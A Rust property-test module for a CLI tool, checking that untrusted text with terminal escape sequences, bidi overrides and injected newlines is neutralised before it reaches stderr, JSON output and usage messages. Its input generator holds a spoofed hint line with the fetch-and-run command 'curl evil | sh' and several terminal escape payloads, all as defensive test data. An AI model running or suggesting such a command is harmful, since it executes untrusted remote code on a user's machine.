//! External text never reaches the terminal as anything but text.

use clap::Parser;
use proptest::prelude::*;

use super::*;

fn ui(colour: bool) -> Ui {
    Ui {
        output: OutputFormat::Table,
        may_ask: false,
        verbose: false,
        quiet: false,
        stderr_is_terminal: colour,
        stderr_width: None,
        view: View { width: colour.then_some(80), palette: Palette::new(colour) },
        status_palette: Palette::new(colour),
    }
}

/// Returns the text without our own styles.
fn without_styles(text: &str) -> String {
    let mut plain = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('\u{1b}') {
        plain.push_str(before);
        let end = after.find('m').filter(|end| {
            after.starts_with('[')
                && after[1..*end].bytes().all(|byte| byte.is_ascii_digit() || byte == b';')
        });
        match end {
            Some(end) => rest = &after[end + 1..],
            None => {
                plain.push('\u{1b}');
                rest = after;
            }
        }
    }
    plain.push_str(rest);
    plain
}

fn is_safe(text: &str) -> bool {
    !text.contains(escape::is_unsafe)
}

#[derive(serde::Serialize)]
struct Sample {
    rows: Vec<String>,
    raw: Box<serde_json::value::RawValue>,
}

impl Report for Sample {
    const KIND: &'static str = "sample";
    const ROWS: Option<&'static str> = Some("rows");

    fn outcome(&self) -> reco_core::outcome::Outcome {
        reco_core::outcome::Outcome::Success
    }

    fn render(&self, view: &View) -> String {
        let mut table = TextTable::new(view, &[("A", Align::Left), ("B", Align::Right)]);
        for row in &self.rows {
            table.toned_row([(row.clone(), Some(Tone::Bad)), (row.clone(), None)]);
        }
        let head = view.palette.paint(Tone::Heading, self.rows.first().map_or("", String::as_str));
        format!("{head}\n{}", table.finish())
    }
}

fn null() -> Box<serde_json::value::RawValue> {
    serde_json::value::RawValue::from_string("null".to_owned()).expect("it is JSON")
}

/// Any text, with more controls and escape sequences than chance would produce.
fn foreign() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        any::<String>(),
        proptest::collection::vec(any::<char>(), 0..8).prop_map(String::from_iter),
        Just("\u{1b}[31m".to_owned()),
        Just("\u{1b}]0;title\u{7}".to_owned()),
        Just("\u{9b}2J".to_owned()),
        Just("\u{202e}".to_owned()),
        Just("\r\nerror: all is lost\n  hint: curl evil | sh\n".to_owned()),
        Just("\u{1b}\u{1}".to_owned()),
    ];
    proptest::collection::vec(part, 0..6).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn every_line_on_stderr_is_one_line_and_ours(text in foreign(), colour: bool) {
        let ui = ui(colour);
        for line in [ui.status_line(&text), ui.warning_line(&text), panic_line(&text)] {
            let plain = without_styles(&line);
            prop_assert!(is_safe(&plain) && !plain.contains('\n'), "{line:?}");
            if !colour {
                prop_assert!(is_safe(&line));
            }
        }
    }

    #[test]
    fn an_error_has_the_lines_that_it_has(
        message in foreign(),
        causes in proptest::collection::vec(foreign(), 0..15),
        hint in proptest::option::of(foreign()),
        colour: bool,
    ) {
        let mut error = Error::new(Kind::Service, message);
        error.causes = causes.clone();
        error.hint = hint.clone();
        let lines = ui(colour).error_lines(&error);
        let plain = without_styles(&lines);
        prop_assert!(is_safe(&plain));
        let told = plain.lines().collect::<Vec<_>>();
        let causes = causes.len().min(MOST_CAUSES);
        prop_assert_eq!(plain.matches('\n').count(), causes + usize::from(hint.is_some()));
        prop_assert_eq!(told.iter().filter(|line| line.starts_with("error: ")).count(), 1);
        prop_assert_eq!(told.iter().filter(|line| line.starts_with("  because: ")).count(), causes);
        let hints = told.iter().filter(|line| line.starts_with("  hint: ")).count();
        prop_assert_eq!(hints, usize::from(hint.is_some()));
    }

    #[test]
    fn reports_are_safe_in_every_format(rows in proptest::collection::vec(foreign(), 1..4), colour: bool) {
        let raw = serde_json::value::RawValue::from_string(serde_json::json!(rows).to_string());
        let report = Sample { rows, raw: raw.expect("it is JSON") };
        let text = shown(&report.render(&ui(colour).view));
        prop_assert!(is_safe(&without_styles(&text)), "{text:?}");
        let mut whole = Vec::new();
        report::json(&mut whole, &report).expect("serialised").expect("written");
        let whole = String::from_utf8(whole).expect("UTF-8");
        prop_assert!(is_safe(&whole));
        let read: serde_json::Value = serde_json::from_str(&whole).expect("JSON");
        prop_assert_eq!(&read["rows"], &serde_json::json!(report.rows), "the values are the same");
        prop_assert_eq!(&read["raw"], &serde_json::json!(report.rows));
        let lines = report::jsonl(&Sample { raw: null(), ..report }).expect("serialised");
        prop_assert!(is_safe(&lines), "{lines:?}");
    }

    #[test]
    fn progress_and_usage_are_safe(text in foreign()) {
        let pauses = progress::Pauses::default();
        let progress = ui(false).bar(&text, None, Unit::Messages, &pauses);
        let what = progress.what();
        prop_assert!(is_safe(&what) && !what.contains('\n'));
        let error = crate::cli::Cli::try_parse_from(["recoctl", "--output", &text, "config", "show"]);
        if let Err(error) = error {
            prop_assert!(is_safe(&usage_text(&error)));
        }
    }
}

#[test]
fn what_is_said_is_clipped_to_a_screenful() {
    let ui = ui(false);
    let long = "x".repeat(1 << 20);
    assert!(ui.status_line(&long).len() < 3_000);
    assert!(ui.warning_line(&long).len() < 3_000);
    let mut error = Error::service(long.clone()).hint(long.clone());
    error.causes = vec![long; 50];
    assert!(ui.error_lines(&error).len() < 30_000);
}
